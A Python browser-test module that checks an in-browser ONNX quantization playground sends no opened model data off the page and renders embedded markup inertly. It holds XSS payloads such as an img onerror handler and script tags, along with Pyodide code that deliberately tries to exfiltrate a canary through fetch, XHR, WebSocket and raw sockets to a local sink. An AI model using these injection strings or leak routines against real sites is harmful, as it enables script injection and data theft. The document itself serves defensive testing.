"""Nothing that a visitor opens leaves the browser: a recorder, a sink on another port, a canary, deliberate leaks."""

import base64
import functools
import http.server
import socket
import threading
from pathlib import Path

import numpy as np
import pytest
from onnx import TensorProto, helper, numpy_helper

from tests.browser.conftest import new_context

SITE = Path(__file__).parents[2] / "dist"
LEAKS = Path(__file__).with_name("leaks.js").read_text(encoding="utf-8")
MARK = "CANARY7f3a91"
MARKUP = "<img src=x onerror=window.hacked=1><script>window.hacked=2</script>"


class Sink:
    """A listening socket on another port that records connections and what they send."""

    def __init__(self):
        self.connections = 0
        self.heard = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.host = f"127.0.0.1:{self.socket.getsockname()[1]}"
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self._hear, args=[connection], daemon=True).start()

    def _hear(self, connection):
        with connection:
            said = connection.recv(65536)
            if not said:
                return
            self.heard.append(said)
            connection.sendall(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")


ARRIVED = []
"""What has reached the site's own host in this module: request lines, headers and bodies."""


class OwnHost(http.server.SimpleHTTPRequestHandler):
    """The site's host, which writes down all that it is told."""

    extensions_map = http.server.SimpleHTTPRequestHandler.extensions_map | {".mjs": "text/javascript"}

    def parse_request(self):
        understood = super().parse_request()
        if understood:
            body = self.rfile.read(int(self.headers.get("content-length") or 0))
            ARRIVED.append(f"{self.requestline} {self.headers}".encode() + body)
        return understood

    def log_message(self, *_args):
        pass


@pytest.fixture(scope="module")
def site():
    """As for the other tests, but the host keeps what arrives."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(OwnHost, directory=str(SITE)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


@pytest.fixture
def sink():
    sink = Sink()
    yield sink
    sink.socket.close()


class Recorder:
    """Everything that any request of a context carries."""

    def __init__(self, context):
        self.requests = []
        context.on("request", lambda request: self.requests.append(request))  # noqa: PLW0108 - playwright wraps functions only

    def carrying(self, *marks):
        return [r.url for r in self.requests if any(mark in self._content(r) for mark in marks)]

    @staticmethod
    def _content(request):
        headers = " ".join(f"{k}: {v}" for k, v in request.headers.items())
        return f"{request.url} {headers}".encode() + (request.post_data_buffer or b"")


def marks():
    """The canary as it is, and in base64 at each of the three places where it may begin."""
    plain = MARK.encode()
    return [plain, *(base64.b64encode(b"." * i + plain)[4 * bool(i) : 4 * bool(i) + 12] for i in range(3))]


@pytest.fixture
def canary(tmp_path):
    """A model in whose names and weights the mark lies, and in whose names there is markup."""
    weights = np.frombuffer((MARK.encode() * 8)[:96], np.float32).reshape(6, 4)
    assert np.isfinite(weights).all()
    w = numpy_helper.from_array(weights, f"{MARK} {MARKUP}")
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 6])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 4])
    node = helper.make_node("MatMul", ["x", w.name], ["y"], f"{MARK} product {MARKUP}")
    graph = helper.make_graph([node], f"{MARK} {MARKUP}", [x], [y], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    path = tmp_path / f"{MARK} <img src=x onerror=window.hacked=3>.onnx"
    path.write_bytes(model.SerializeToString())
    assert MARK.encode() in path.read_bytes()
    return path


@pytest.fixture
def recorder(visit):
    return Recorder(visit.context)


def open_canary(page, canary):
    page.set_input_files("#open", canary)
    page.wait_for_function("() => playground.state.model === 'upload'")


def use_everything(page):
    """Every setting, every view, and every button that computes something."""
    settings = [
        {"format": "uint4", "granularity": "channel", "symmetric": False, "zoom": True},
        {"format": "int8", "granularity": "tensor", "symmetric": True, "narrow_range": True},
        {"calibrator": "percentile", "percentile": 99, "zoom": False},
    ]
    for changes in settings:
        page.evaluate("(changes) => playground.setState(changes)", changes)
    for slider in page.locator("#slot-tensor-controls input[type=range]").all():
        if slider.is_visible():
            slider.press("ArrowRight")
    page.locator("#menu-button").click()
    page.locator("#theme").click()
    page.locator("#tab-model").click()
    page.wait_for_function("() => Bokeh.documents.some((doc) => doc.get_model_by_name('inventory'))")
    page.evaluate("() => playground.quantize().catch((error) => error)")
    page.locator("#tab-run").click()
    page.locator("#race").click()
    page.evaluate("() => playground.run({x: [[1, 2, 3, 4, 5, 6]]})")
    page.locator("#tab-export").click()
    page.wait_for_function("() => document.getElementById('code').textContent.length > 0")
    for button in ("#save-recipe", "#save-report"):
        if page.locator(button).is_enabled():
            with page.expect_download():
                page.locator(button).click()
    page.locator("#tab-tensor").click()


INJECTED = """() => {
  const found = [];
  const walk = (node) => {
    if (node.matches?.('img[src="x"]')) found.push(node.outerHTML);
    if (node.matches?.('script') && node.textContent.includes('hacked')) found.push(node.outerHTML);
    for (const child of [...(node.shadowRoot?.children ?? []), ...(node.children ?? [])]) walk(child);
  };
  walk(document.documentElement);
  return [window.hacked ?? null, found];
}"""


def test_nothing_of_an_opened_model_is_sent_and_its_markup_is_inert(page, canary, sink, recorder):
    open_canary(page, canary)
    for view in ("tensor", "model", "run", "export"):
        page.locator(f"#tab-{view}").click()
        page.wait_for_timeout(300)
        assert page.evaluate(INJECTED) == [None, []], view
    page.locator("#tab-tensor").click()
    use_everything(page)
    assert page.evaluate(INJECTED) == [None, []]
    assert MARK in page.evaluate("() => playground.state.tensor")
    page.wait_for_timeout(500)
    assert recorder.carrying(*marks()) == []
    assert [line[:200] for line in ARRIVED if any(mark in line for mark in marks())] == []
    assert sink.connections == 0


PYTHON = """
import js
from pyodide.ffi import to_js
from pyodide.http import open_url, pyfetch

async def attempts(url):
    outcomes = {}
    async def attempt(name, work):
        try:
            result = work()
            outcomes[name] = repr(await result if hasattr(result, "__await__") else result)
        except BaseException as error:
            outcomes[name] = f"error {error}"[:200]
    def xhr():
        request = js.XMLHttpRequest.new()
        request.open("POST", url, False)
        request.send(url)
        return request.status
    def url_open():
        from urllib.request import urlopen
        return urlopen(url, timeout=1)
    def sockets():
        import socket
        host, port = url.split("/")[2].split(":")
        return socket.create_connection((host, int(port)), timeout=1).send(b"x")
    await attempt("pyfetch", lambda: pyfetch(url))
    await attempt("js.fetch", lambda: js.fetch(url))
    await attempt("xhr", xhr)
    await attempt("open_url", lambda: open_url(url))
    await attempt("urlopen", url_open)
    await attempt("websocket", lambda: js.WebSocket.new(url.replace("http", "ws")))
    await attempt("socket", sockets)
    return outcomes

to_js(await attempts(URL), dict_converter=js.Object.fromEntries)
"""


def address(host):
    return {"url": f"http://{host}/leak?{MARK}", "socket": f"ws://{host}/leak?{MARK}"}


def leaked(outcomes):
    """Attempts whose own account is that they have succeeded."""
    return {name: text for name, text in outcomes.items() if text in ("load", "open", "sent", "[object Response]")}


def arrived():
    return [line.split(b"\r\n")[0] for line in ARRIVED if b"/leak" in line.split(b"HTTP/1")[0]]


def run_python(worker, url):
    return worker.evaluate(
        "([code, url]) => self.pyodide.runPythonAsync(code.replace('URL', JSON.stringify(url)))", [PYTHON, url]
    )


def engine_worker(page):
    """The worker with Python."""
    return next(w for w in page.workers if w.evaluate("() => !!self.pyodide"))


@pytest.fixture
def apart(browser, visit):
    """A context of its own, because the attempts leave their traces in it."""
    context = new_context(browser, service_workers="allow")
    yield type(visit)(context, visit.site)
    context.close()


def test_the_worker_can_send_nothing_to_anyone(apart, sink):
    page = apart.open()
    worker = engine_worker(page)
    for host in (sink.host, apart.site.removeprefix("http://")):
        outcomes = worker.evaluate(LEAKS, {**address(host), "only": None})
        assert len(outcomes) >= 15
        assert leaked(outcomes) == {}
        outcomes = run_python(worker, address(host)["url"])
        assert set(outcomes) == {"pyfetch", "js.fetch", "xhr", "open_url", "urlopen", "websocket", "socket"}
        page.wait_for_timeout(500)
        assert sink.connections == 0, outcomes
        assert arrived() == [], outcomes


def test_the_page_can_send_to_its_own_host_only(apart, sink):
    page = apart.page
    page.goto(apart.site)
    outcomes = page.evaluate(LEAKS, {**address(sink.host), "only": None})
    assert {"fetch", "xhr", "websocket", "beacon", "image", "form", "import"} <= set(outcomes)
    page.wait_for_timeout(500)
    assert sink.heard == [], outcomes
    # The browser opens a connection for a frame before it asks the policy, and closes it without a word.
    assert sink.connections <= 1
    own = page.evaluate(LEAKS, {**address(apart.site.removeprefix("http://")), "only": ["fetch", "form"]})
    assert own["fetch"] == "[object Response]", "the recorder would see what is sent: this is allowed, and arrives"
    assert [line for line in arrived() if b"GET /leak" in line]
    assert not [line for line in arrived() if b"POST /leak" in line], "forms are not sent"
